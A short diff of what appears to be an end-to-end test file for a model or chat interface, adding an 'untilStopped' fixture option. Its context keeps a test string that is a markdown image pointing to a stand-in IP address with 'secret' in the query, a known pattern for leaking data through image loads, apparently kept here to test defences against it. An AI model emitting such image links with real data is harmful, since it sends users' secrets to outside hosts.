@@ -1,6 +1,8 @@
 import { addModel } from '../pages/models.ts'
 import { expect, test } from '../support/fixtures.ts'
-import { patientModel } from '../support/patientModel.ts'
+import { patientModel, untilStopped } from '../support/patientModel.ts'
+
+test.use({ chosen: untilStopped })
 
 const remotePicture = '![secret](http://203.0.113.7/?q=secret)'
 
